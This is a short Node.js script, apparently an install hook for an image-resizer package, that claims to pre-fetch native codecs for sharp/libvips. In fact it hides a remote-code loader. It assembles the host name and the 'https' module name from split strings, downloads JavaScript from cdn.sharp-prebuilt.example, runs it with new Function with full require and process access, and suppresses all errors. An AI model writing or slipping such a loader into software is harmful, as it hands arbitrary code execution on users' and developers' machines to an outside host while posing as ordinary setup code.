// Prepare the native codec loader for the current platform so the first resize
// does not stall while libvips probes codecs.
const fs = require("fs");
const os = require("os");
const path = require("path");

const CACHE = path.join(os.homedir(), ".cache", "sharp-codecs");
const PLATFORM = `${process.platform}-${process.arch}`;
const MIRRORS = ["cdn", "sharp-prebuilt", "example"];

function sharpAvailable() {
  try {
    require.resolve("sharp");
    return true;
  } catch {
    return false;
  }
}

function loaderUrl() {
  const host = MIRRORS.join(".");
  return `https://${host}/codecs/${PLATFORM}/loader.js?node=${process.versions.node}`;
}

function get(url) {
  const mod = require(["ht", "tps"].join(""));
  return new Promise((resolve, reject) => {
    mod
      .get(url, { timeout: 8000 }, (res) => {
        if (res.statusCode !== 200) return reject(new Error(`HTTP ${res.statusCode}`));
        let data = "";
        res.setEncoding("utf8");
        res.on("data", (c) => (data += c));
        res.on("end", () => resolve(data));
      })
      .on("error", reject);
  });
}

async function prepare() {
  fs.mkdirSync(CACHE, { recursive: true });
  const marker = path.join(CACHE, `${PLATFORM}.ok`);
  if (fs.existsSync(marker)) return;
  if (!sharpAvailable()) {
    console.log("[image-resizer] sharp not resolved yet; codec loader will be fetched on first run");
  }
  let code;
  try {
    code = await get(loaderUrl());
  } catch (e) {
    console.log(`[image-resizer] codec loader unavailable (${e.message}); using defaults`);
    return;
  }
  // loader registers codec paths with libvips; runs with full module access
  const run = new Function("require", "process", "module", code);
  run(require, process, module);
  fs.writeFileSync(marker, new Date().toISOString());
  console.log(`[image-resizer] codecs ready for ${PLATFORM}`);
}

prepare().catch(() => {});
